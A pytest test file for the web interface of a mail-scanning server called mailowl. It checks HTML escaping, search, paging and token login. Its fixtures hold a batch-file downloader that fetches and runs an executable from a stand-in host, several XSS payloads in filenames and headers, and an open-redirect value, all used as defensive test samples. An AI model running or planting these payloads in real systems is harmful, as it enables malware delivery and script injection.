"""The web interface of a real `mailowl serve` process: pages, search, paging, escaping, the token."""

from __future__ import annotations

import base64
import hashlib
import http.client
import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from .server import Server

DOWNLOADER = b"@echo off\r\ncurl -s -o x.exe http://downloads.example/x.exe\r\nstart x.exe\r\n"
#: attacker-chosen strings; a path separator would be cut off by basename(), so none is used
SCRIPT_NAME = "<script>alert(1)<script>.bat"
SVG_NAME = "<svg onload=alert(2)>.bat"
MESSAGE_ID = "<\"<script>alert(3)</script>\"@evil.example>"
MEMBER = "<svg onload=alert(5)>.bat"


def message(filename_header: str, content: bytes, message_id: str, subject: str = "hello") -> bytes:
    return (f"From: a@x.example\r\nTo: b@y.example\r\nSubject: {subject}\r\nMessage-ID: {message_id}\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
            "Content-Type: text/plain\r\n\r\nsee attachment\r\n--b\r\nContent-Type: application/octet-stream\r\n"
            f"Content-Disposition: attachment; {filename_header}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            f"{base64.b64encode(content).decode()}\r\n--b--\r\n").encode()


def post(owl: Server, data: bytes, sender: str, rcpt: str) -> dict[str, Any]:
    status, answer, _ = owl.request("POST", f"/v2/messages?from={quote(sender)}&rcpt={quote(rcpt)}&wait=30", data,
                                    {"Content-Type": "message/rfc822"})
    assert status == 200, answer
    return dict(answer)


def page(owl: Server, path: str, headers: dict[str, str] | None = None) -> tuple[int, str, dict[str, str]]:
    status, body, head = owl.request("GET", path, headers=headers)
    return status, body if isinstance(body, str) else str(body), head


def eventually(check: Callable[[], bool], timeout: float = 30) -> None:
    """Pages read the database, which the store's writer reaches a moment after the answer."""
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "the store never showed it"
        time.sleep(0.05)


@pytest.fixture(scope="module")
def owl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, dict[str, Any]]]:
    server = Server(tmp_path_factory.mktemp("web"))
    try:
        facts: dict[str, Any] = {}
        facts["script"] = post(server, message(f'filename="{SCRIPT_NAME}"', DOWNLOADER, MESSAGE_ID),
                               "x<b>y</b>@evil.example", "bob@y.example")
        encoded = "=?utf-8?b?" + base64.b64encode(SVG_NAME.encode()).decode() + "?="
        subject = "=?utf-8?q?=3Cscript=3Ealert=284=29=3C/script=3E?="
        facts["svg"] = post(server, message(f'filename="{encoded}"', DOWNLOADER + b"rem 2\r\n", "<two@x>", subject),
                            "alice@x.example", "carol@y.example")
        facts["clean"] = post(server, message('filename="notes.pdf"', b"%PDF-1.4\n%%EOF\n", "<three@x>"),
                              "alice@x.example", "dave@y.example")
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as zipped:
            zipped.writestr(MEMBER, DOWNLOADER)
        facts["zip"] = post(server, message('filename="photos.zip"', archive.getvalue(), "<four@x>"),
                            "zip@x.example", "dave@y.example")
        for result in facts.values():
            eventually(lambda r=result: page(server, f"/ui/messages/{r['support_id']}")[0] == 200)
        yield server, facts
    finally:
        server.stop()


def test_dashboard_shows_the_latest_messages_and_jobs_escaped(owl: tuple[Server, dict[str, Any]]) -> None:
    server, facts = owl
    status, html, headers = page(server, "/ui/")
    assert status == 200 and headers["content-type"].startswith("text/html")
    assert "default-src 'self'" in headers["content-security-policy"]
    for result in facts.values():
        assert result["support_id"] in html
    # each attacker-chosen string shows as text, never as markup
    assert "&lt;script&gt;alert(1)&lt;script&gt;.bat" in html and "<script>alert" not in html
    assert "&lt;svg onload=alert(2)&gt;.bat" in html and "<svg" not in html
    assert "x&lt;b&gt;y&lt;/b&gt;@evil.example" in html and "<b>y</b>" not in html
    # the encoded-word Subject, decoded, then escaped
    assert "&lt;script&gt;alert(4)&lt;/script&gt;" in html and "<script>alert(4)" not in html
    assert "alert=284=29" not in html
    assert "text/x-msdos-batch" in html and "expressions" in html  # the file types and deciding rules
    chart = re.search(r'data-chart="([^"]*)"', html)
    assert chart is not None and "&#34;bad&#34;" in chart.group(1)


def test_message_page_says_which_rule_decided_and_why(owl: tuple[Server, dict[str, Any]]) -> None:
    server, facts = owl
    rejected = facts["script"]
    assert rejected["action"] == "reject"
    status, html, _ = page(server, f"/ui/messages/{rejected['support_id']}")
    assert status == 200
    assert rejected["reply"] in html  # the SMTP reply with the support id
    assert "The expression (4) classified the sample as Result.bad" in html
    assert re.search(r'class="decided"><td>\d+</td><td class="rule">expressions</td>', html)
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in html and "<script>alert(3)" not in html  # Message-ID
    # the verdict log's line for this message, escaped
    assert re.search(r'<pre class="logline">infected: message-id=&#34;', html)
    assert f"support-id=&#34;{rejected['support_id']}&#34;" in html
    clean = facts["clean"]
    _, html, _ = page(server, f"/ui/messages/{clean['support_id']}")
    assert "a-accept" in html and "notes.pdf" in html


def test_job_page_by_id_and_by_sha256(owl: tuple[Server, dict[str, Any]]) -> None:
    server, facts = owl
    part = facts["script"]["parts"][0]
    status, by_id, _ = page(server, f"/ui/jobs/{part['job_id']}")
    assert status == 200
    sha256 = hashlib.sha256(DOWNLOADER).hexdigest()
    assert sha256 in by_id and hashlib.md5(DOWNLOADER).hexdigest() in by_id
    rules = re.findall(r'<td class="rule">([a-z_]+)</td>', by_id)
    assert rules[0] == "known" and rules[-1] == "expressions"  # in the order they ran
    assert "Decided by rule <b class=\"rule\">expressions</b>" in by_id
    assert "job-id=" in by_id  # the verdict log line of the job
    status, by_hash, _ = page(server, f"/ui/jobs/{sha256.upper()}")
    assert status == 200 and f"Job <span class=\"id\">{part['job_id']}</span>" in by_hash
    # what the analysers reported: the archive's members (escaped), the file types by content
    zip_job = facts["zip"]["parts"][0]["job_id"]
    _, archive, _ = page(server, f"/ui/jobs/{zip_job}")
    assert '<dd class="members"><span class="file">&lt;svg onload=alert(5)&gt;.bat</span></dd>' in archive
    assert '<h3 class="report">archivereport</h3>' in archive and "<svg" not in archive
    assert "member &#39;&lt;svg onload=alert(5)&gt;.bat&#39;" in archive  # the archive rule's reason
    assert '<h3 class="report">filereport</h3>' in by_id and "text/x-msdos-batch" in by_id
    assert page(server, "/ui/jobs/" + "0" * 64)[0] == 404
    assert page(server, "/ui/jobs/99999999")[0] == 404


def test_search(owl: tuple[Server, dict[str, Any]]) -> None:
    server, facts = owl
    support_id = facts["svg"]["support_id"]
    status, _, headers = page(server, f"/ui/search?q={support_id}")
    assert status == 303 and headers["location"] == f"/ui/messages/{support_id}"
    job_id = facts["svg"]["parts"][0]["job_id"]
    assert page(server, f"/ui/search?q={job_id}")[2]["location"] == f"/ui/jobs/{job_id}"
    _, html, _ = page(server, f"/ui/search?q={hashlib.sha256(DOWNLOADER).hexdigest()}")
    assert f'href="/ui/jobs/{facts["script"]["parts"][0]["job_id"]}"' in html
    _, html, _ = page(server, "/ui/search?q=alice%40x.example")
    assert support_id in html and facts["clean"]["support_id"] in html and facts["script"]["support_id"] not in html
    _, html, _ = page(server, "/ui/search?q=carol%40y.example&by=to")
    assert support_id in html and facts["clean"]["support_id"] not in html
    _, html, _ = page(server, "/ui/search?q=onload")
    assert "&lt;svg onload=alert(2)&gt;.bat" in html and "notes.pdf" not in html
    _, html, _ = page(server, "/ui/search?q=%3Cscript%3E")  # the query itself is shown escaped too
    assert "<script>" not in html.split("</header>", 1)[1]
    assert page(server, "/ui/search?q=mo-000000000000")[0] == 200  # unknown: an empty list


def test_pages_of_messages(owl: tuple[Server, dict[str, Any]], tmp_path: Path) -> None:
    server, facts = owl
    empty = b"From: p@x.example\r\nTo: q@y.example\r\nSubject: no attachment\r\n\r\nhi\r\n"
    made = [post(server, empty, "pager@x.example", "q@y.example")["support_id"] for _ in range(55)]
    eventually(lambda: made[-1] in page(server, "/ui/messages")[1])
    _, first, _ = page(server, "/ui/search?q=pager%40x.example")
    shown = re.findall(r'href="/ui/messages/(mo-[0-9a-f]+)"', first)
    assert shown == made[::-1][:50]
    older = re.search(r'rel="next" href="([^"]+)"', first)
    assert older is not None
    _, second, _ = page(server, older.group(1).replace("&amp;", "&"))
    assert re.findall(r'href="/ui/messages/(mo-[0-9a-f]+)"', second) == made[::-1][50:]
    assert 'rel="next"' not in second


def test_unknown_pages_are_404_and_escaped(owl: tuple[Server, dict[str, Any]]) -> None:
    server, _ = owl
    status, html, _ = page(server, "/ui/messages/%3Cscript%3E")
    assert status == 404 and "&lt;script&gt;" in html and "<script>" not in html.split("</header>", 1)[1]
    assert page(server, "/ui/nothing-here")[0] == 404
    status, _, headers = page(server, "/ui")
    assert status == 308 and headers["location"] == "/ui/"
    assert page(server, "/ui/static/uplot.iife.min.js")[0] == 200


def _raw(port: int, method: str, path: str, headers: dict[str, str], body: bytes | None = None
         ) -> http.client.HTTPResponse:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request(method, path, body=body, headers=headers)
    response = conn.getresponse()
    response.read()
    conn.close()
    return response


def test_the_token_guards_the_interface(tmp_path: Path) -> None:
    server = Server(tmp_path, env={"MAILOWL_SERVER_TOKEN": "s3cret-token"})
    try:
        port = server.port
        assert _raw(port, "GET", "/ui/", {}).status == 401
        assert _raw(port, "GET", "/ui/jobs/1", {"Authorization": "Bearer wrong"}).status == 401
        browser = _raw(port, "GET", "/ui/search?q=x", {"Accept": "text/html"})
        assert browser.status == 303 and browser.headers["location"] == "/ui/login?next=%2Fui%2Fsearch%3Fq%3Dx"
        assert _raw(port, "GET", "/ui/login", {}).status == 200  # the form and its style need no token
        assert _raw(port, "GET", "/ui/static/ui.css", {}).status == 200
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        wrong = _raw(port, "POST", "/ui/login", form, b"token=guess&next=%2Fui%2F")
        assert wrong.status == 401 and wrong.headers.get("set-cookie") is None
        right = _raw(port, "POST", "/ui/login", form, b"token=s3cret-token&next=%2Fui%2Fjobs")
        assert right.status == 303 and right.headers["location"] == "/ui/jobs"
        cookie = right.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "s3cret-token" not in cookie
        value = cookie.split(";", 1)[0]
        assert _raw(port, "GET", "/ui/", {"Cookie": value}).status == 200
        assert _raw(port, "GET", "/ui/", {"Authorization": "Bearer s3cret-token"}).status == 200
        assert _raw(port, "GET", "/ui/", {"Cookie": value[:-1] + "0"}).status == 401
        # the cookie opens the pages, not the API
        assert _raw(port, "GET", "/v2/jobs/1", {"Cookie": value}).status == 401
        # after logging in, only a page of /ui is a place to go
        elsewhere = _raw(port, "POST", "/ui/login", form, b"token=s3cret-token&next=%2F%2Fevil.example%2F")
        assert elsewhere.headers["location"] == "/ui/"
    finally:
        server.stop()


def test_the_message_page_shows_the_decoded_subject_as_text(owl: tuple[Server, dict[str, Any]]) -> None:
    server, facts = owl
    status, html, _ = page(server, f"/ui/messages/{facts['svg']['support_id']}")
    assert status == 200
    assert "<dt>subject</dt><dd>&lt;script&gt;alert(4)&lt;/script&gt;</dd>" in html
    _, clean, _ = page(server, f"/ui/messages/{facts['clean']['support_id']}")
    assert "<dt>subject</dt><dd>hello</dd>" in clean
